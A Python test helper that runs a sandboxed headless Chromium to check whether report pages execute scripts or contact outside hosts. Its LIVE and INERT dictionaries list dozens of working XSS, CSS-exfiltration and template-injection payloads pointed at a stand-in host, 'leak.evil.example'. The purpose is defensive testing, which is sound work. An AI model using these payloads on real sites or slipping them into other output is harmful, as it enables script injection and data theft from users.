"""A headless Chromium for the tests of hostile reports, and a listener that stands for every host there is.

The browser is driven over a pair of pipes (`--remote-debugging-pipe`: messages of the DevTools protocol, as JSON, ended by a
zero byte). Whatever it asks for, under any name, goes to the listener: it is the browser's proxy, and names that bypass a proxy
lead to it as well. Nothing leaves the machine.
"""

from __future__ import annotations

import json
import os
import re
import select
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType
from typing import Any

import pytest

RAN = "data-ran"
"""The attribute of the root element that a payload sets when its script runs."""

OWN_PICTURE = "data:image/png;base64,"
"""How the address of a picture begins that is part of the page, and can do nothing."""
_START_SECONDS = 60.0
_LOAD_SECONDS = 2.0
_QUIET_SECONDS = 0.06
_OWN_REQUEST = re.compile(r"^[A-Z]+ (?:https?://)?(?:[\w.-]+\.)?(?:google|googleapis|gstatic|gvt1)\.com[:/]")
"""What the browser itself asks for now and then, whatever page is open; no page of the tests refers to these."""
_FLAGS = (
    "--headless --no-sandbox --disable-gpu --no-first-run --no-default-browser-check --disable-background-networking "
    "--disable-component-update --disable-sync --disable-default-apps --disable-extensions --disable-domain-reliability "
    "--disable-client-side-phishing-detection --disable-dev-shm-usage --autoplay-policy=no-user-gesture-required "
    "--disable-features=OptimizationHints,MediaRouter,DialMediaRouteProvider,Translate,NetworkTimeServiceQuerying "
    "--mute-audio --remote-debugging-pipe"
)

# What a reader may do on a page, all at once: open everything, point at everything, click on everything.
_READ = """
(async () => {
    for (const element of document.querySelectorAll('details')) element.open = true;
    for (const element of document.querySelectorAll('body *')) {
        for (const name of ['mouseover', 'mouseenter', 'focus', 'pointerdown', 'keydown'])
            element.dispatchEvent(new Event(name, {bubbles: true}));
        if (element.matches('a, summary, button, input, area, [onclick]')) element.click();
    }
    window.scrollTo(0, document.body.scrollHeight);
    await new Promise(done => setTimeout(done, QUIET));
})()
"""


class Listener:
    """A server on loopback that notes every connection, and answers whatever may be a request for a script or an image."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        self.contacts: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        """Stop listening."""
        self._server.close()

    def _serve(self) -> None:
        while True:
            try:
                connection = self._server.accept()[0]
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(5)
            number = len(self.contacts)
            self.contacts.append("a connection without a request")
            try:
                request = connection.recv(4096).decode("latin-1").partition("\r\n")[0]
                self.contacts[number] = request or self.contacts[number]
                body = f"document.documentElement.setAttribute('{RAN}', 'from elsewhere')".encode()
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nContent-Length: {len(body)}\r\n"
                connection.sendall(f"{head}Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n".encode() + body)
            except OSError:
                return


@dataclass
class Seen:
    """What happened while a page was open.

    Attributes:
        ran: Scripts that ran, in words.
        requests: Addresses that the page asked for, besides its own, also if its policy stopped the request.
        contacts: Requests that reached the listener.
        refused: What the page's policy had to stop: on a good page there is nothing to stop.
        elements: Names of the elements of the page that can do something, or refer to something.
    """

    ran: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    contacts: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)
    elements: list[str] = field(default_factory=list)


class Browser:
    """One running Chromium with one tab. Use it as a context manager."""

    def __init__(self, program: str, folder: Path, listener: Listener) -> None:
        self.listener = listener
        self.folder = folder
        self._number = 0
        self._unread = b""
        self._events: list[dict[str, Any]] = []
        read_end, their_output = os.pipe()
        their_input, write_end = os.pipe()
        proxy = f"--proxy-server=http://127.0.0.1:{listener.port}"
        names = f"--host-resolver-rules=MAP * 127.0.0.1:{listener.port}"
        command = [program, *_FLAGS.split(), f"--user-data-dir={folder / 'profile'}", proxy]
        command += ["--proxy-bypass-list=<-loopback>", names, "about:blank"]
        # the browser reads from descriptor 3 and writes to 4, whatever ours are
        shell = ["/bin/bash", "-c", f'exec "$@" 3<&{their_input} 4>&{their_output}', "bash", *command]
        self._process = subprocess.Popen(
            shell,
            pass_fds=(their_input, their_output),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        os.close(their_input)
        os.close(their_output)
        self._input, self._output = write_end, read_end
        self._session: str | None = None
        target = self.ask("Target.createTarget", url="about:blank")["targetId"]
        self._session = self.ask("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Network", "Runtime", "Log"):
            self.ask(f"{domain}.enable")

    def __enter__(self) -> Browser:
        """Return the browser itself."""
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        """End it."""
        self._process.kill()
        self._process.wait()
        os.close(self._input)
        os.close(self._output)

    def open(self, html: str) -> Seen:
        """Read a page from its beginning to its end, like a reader who opens, points at and clicks everything."""
        self.ask("Page.navigate", url="about:blank")
        self._collect(0.02)
        self._events.clear()
        before = len(self.listener.contacts)
        self._number += 1
        place = self.folder / f"page-{self._number}.html"
        place.write_text(html, encoding="utf-8", errors="surrogatepass")
        self.ask("Page.navigate", url=place.as_uri())
        self._wait_for("Page.loadEventFired", _LOAD_SECONDS)
        seen = Seen()
        seen.elements = self.evaluate(
            "[...document.querySelectorAll('script, link, base, iframe, frame, object, embed, img, form, input, button, video, "
            "audio, source, portal, applet, template, [src], [srcset], [srcdoc], [ping], [style], [background], [action], "
            '[http-equiv=refresh], a:not([href^="#"])\')]'
            '.filter(element => !element.matches("img[src^=\\"data:image/png;base64,\\"]"))'
            ".map(element => element.outerHTML.slice(0, 200))"
        )
        self.evaluate(_READ.replace("QUIET", str(int(1000 * _QUIET_SECONDS))))
        self._collect(0.02)
        mark = self.evaluate(f"document.documentElement && document.documentElement.getAttribute('{RAN}')")
        if mark:
            seen.ran.append(f"a script set the mark: {mark}")
        for event in self._events:
            name, content = event["method"], event["params"]
            if name == "Page.javascriptDialogOpening":
                seen.ran.append(f"a dialog: {content['message']}")
            elif name == "Runtime.consoleAPICalled":
                seen.ran.append(f"a script wrote to the console: {content['args']}")
            elif name == "Runtime.exceptionThrown":
                seen.ran.append(f"a script raised: {content['exceptionDetails'].get('text')}")
            elif name in (
                "Network.requestWillBeSent",
                "Page.frameRequestedNavigation",
                "Page.frameScheduledNavigation",
            ):
                address = content["request"]["url"] if "request" in content else content["url"]
                if address.partition("#")[0] != place.as_uri() and not address.startswith(OWN_PICTURE):
                    seen.requests.append(address)
            elif name == "Log.entryAdded":
                seen.refused.append(content["entry"]["text"])
        contacts = self.listener.contacts[before:]
        seen.contacts = [line for line in contacts if not _OWN_REQUEST.match(line)]
        return seen

    def load(self, address: str) -> None:
        """Go to an address, and wait until it is there."""
        self._events.clear()
        self.ask("Page.navigate", url=address)
        self._wait_for("Page.loadEventFired", _START_SECONDS)

    # ---------------------------------------------------------------------------------------------------- the protocol

    def evaluate(self, expression: str) -> Any:
        """Return the value of an expression in the page; DevTools may run it whatever the page's policy says."""
        answer = self.ask(
            "Runtime.evaluate", expression=expression, awaitPromise=True, returnByValue=True, userGesture=True
        )
        return answer.get("result", {}).get("value")

    def ask(self, method: str, **parameters: Any) -> dict[str, Any]:
        """Send a command and return its result; an empty one where the page was gone before it was carried out."""
        self._number += 1
        number = self._number
        message = {"id": number, "method": method, "params": parameters}
        if self._session is not None:
            message["sessionId"] = self._session
        os.write(self._input, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + _START_SECONDS
        while True:
            for answer in self._messages(deadline):
                if answer.get("id") == number:
                    return dict(answer.get("result", {}))
            assert time.monotonic() < deadline, f"the browser does not answer {method}"

    def _wait_for(self, method: str, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while not any(event["method"] == method for event in self._events) and time.monotonic() < deadline:
            self._messages(deadline)

    def _collect(self, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            self._messages(deadline)

    def _messages(self, deadline: float) -> list[dict[str, Any]]:
        """Read what is there, keeping all events; return answers."""
        if not select.select([self._output], [], [], max(0.0, deadline - time.monotonic()))[0]:
            return []
        part = os.read(self._output, 2**16)
        assert part, "the browser ended"
        *texts, self._unread = (self._unread + part).split(b"\0")
        messages = [json.loads(text) for text in texts]
        for event in (message for message in messages if "method" in message):
            self._events.append(event)
            if event["method"] == "Page.javascriptDialogOpening":
                close = {"id": 0, "method": "Page.handleJavaScriptDialog", "params": {"accept": True}}
                os.write(self._input, json.dumps({**close, "sessionId": self._session}).encode() + b"\0")
        return [message for message in messages if "method" not in message]


@contextmanager
def started(folder: Path) -> Iterator[Browser]:
    """Start a browser, with files in `folder`; the test is skipped where there is none."""
    program = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if program is None:
        pytest.skip("needs Chromium, which is not installed here: apt-get install chromium")
    listener = Listener()
    try:
        with Browser(program, folder, listener) as browser:
            yield browser
    finally:
        listener.close()


# ---------------------------------------------------------------------------------------------------------- payloads

_RUN = f"document.documentElement.setAttribute('{RAN}',1)"
_AT = "http://leak.evil.example/x"

LIVE = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={_AT}.js></script>",
    "module": f"<script type=module src={_AT}.js></script>",
    "end of a comment": f"--><script>{_RUN}</script>",
    "end of a title": f"</title></head><body><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a text area": f"</textarea></xmp></noscript></template></select><script>{_RUN}</script>",
    "end of an SVG": f"</tspan></text></svg></math><script>{_RUN}</script>",
    "upper case": f"<SCRIPT>{_RUN}</SCRIPT >",
    "image": f"<img src={_AT}.png>",
    "image that fails": f"<img src=x: onerror={_RUN}>",
    "image set": f"<img srcset='{_AT}.png 1x'>",
    "picture": f"<picture><source srcset={_AT}.webp><img></picture>",
    "SVG that is loaded": f"<svg onload={_RUN}>",
    "SVG with a script": f"<svg><script>{_RUN}</script></svg>",
    "SVG with an image": f"<svg><image href={_AT}.png></image></svg>",
    "SVG that uses another": f"<svg><style>@import '{_AT}.css';</style></svg>",
    "SVG with HTML": f"<svg><foreignObject><img src=x: onerror={_RUN}></foreignObject></svg>",
    "SVG animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "MathML": f"<math><mtext><img src=x: onerror={_RUN}></mtext></math>",
    "frame": f"<iframe src={_AT}></iframe>",
    "frame with a script": "<iframe srcdoc='<script>parent." + _RUN.replace("'", "&quot;") + "</script>'></iframe>",
    "frame with a link": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "frame with data": f"<iframe src='data:text/html,<img src={_AT}.png>'></iframe>",
    "object": f"<object data={_AT}></object>",
    "embedded": f"<embed src={_AT}>",
    "link that runs": f'<a href="javascript:{_RUN}">your score</a>',
    "link that runs, with a tab": f'<a href="java&#9;script:{_RUN}">your score</a>',
    "link that pings": f"<a href='#here' ping={_AT}>your score</a>",
    "link to elsewhere": f"<a href={_AT}>your score</a>",
    "style sheet": f"<link rel=stylesheet href={_AT}.css>",
    "imported style sheet": f"<style>@import url({_AT}.css);</style>",
    "background": f"<style>html{{background:url({_AT}.png)}}</style>",
    "background of an element": f"<p style='background:url({_AT}.png)'>",
    "stolen letters": f"<style>[class^=a],body{{list-style:url({_AT}.png);content:url({_AT}.png)}}</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({_AT}.woff)}}*{{font-family:x!important}}</style>text",
    "fetched beforehand": f"<link rel=prefetch href={_AT}>",
    "loaded beforehand": f"<link rel=preload as=image href={_AT}.png>",
    "connected beforehand": "<link rel=preconnect href=http://leak.evil.example>",
    "icon": f"<link rel=stylesheet href={_AT} title=x>",
    "manifest": f"<link rel='alternate stylesheet' href={_AT}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_AT}'>",
    "base": "<base href=http://leak.evil.example/><img src=x.png>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
    f"<script>{_RUN}</script>",
    "form": f"<form action={_AT}><button>see your score</button></form>",
    "image as a button": f"<input type=image src={_AT}.png>",
    "focus": f"<input autofocus onfocus={_RUN}>",
    "pointing": f"<b onmouseover={_RUN}>your score</b>",
    "opening": f"<details ontoggle={_RUN}><summary>more</summary></details>",
    "body": f"<body onload={_RUN}>",
    "video": f"<video src={_AT}.mp4 poster={_AT}.png autoplay></video>",
    "video that fails": f"<video><source src=x: onerror={_RUN}></video>",
    "sound": f"<audio src={_AT}.mp3 autoplay></audio>",
    "old background": f"<table background={_AT}.png><td>1</table>",
    "quotes": f"'\"><img src=x: onerror={_RUN}>",
    "attribute": f"x' \" onmouseover={_RUN} autofocus x='><i onmouseover={_RUN}>i</i>",
    "script in no script": f'<noscript><p title="</noscript><img src=x: onerror={_RUN}>"></noscript>',
    "mutation": f'<svg></p><style><a id="</style><img src=x: onerror={_RUN}>">',
    "zero bytes": f"<img\x00 src=x: onerror={_RUN}><img src=x: onerror={_RUN}>",
    "escapes and colours": f"\x1b[31m\x1b]8;;{_AT}\x07<img src=x: onerror={_RUN}>\x1b]8;;\x07\x9b",
    "direction": f"\u202e\u2066<img src=x: onerror={_RUN}>\u2069\u2028",
}
"""Strings that run a script or make a request wherever a page takes them for markup. Each is shown to do so."""

INERT = {
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x: onerror={_RUN}&#62;",
    "template": "{{ 7 * 7 }}{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "UTF-7": "+ADw-script+AD4-" + _RUN + "+ADw-/script+AD4-",
    "wide letters": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "names resolved beforehand": "<link rel=dns-prefetch href=//leak.evil.example>",
    "address": f"javascript:{_RUN} {_AT} data:text/html,<script>{_RUN}</script>",
    "Markdown": f"[score](javascript:{_RUN}) ![x]({_AT}.png) <{_AT}> `<img src=x: onerror={_RUN}>`",
}
"""Strings that a browser does nothing with by itself, and that a careless step on the way could bring to life."""
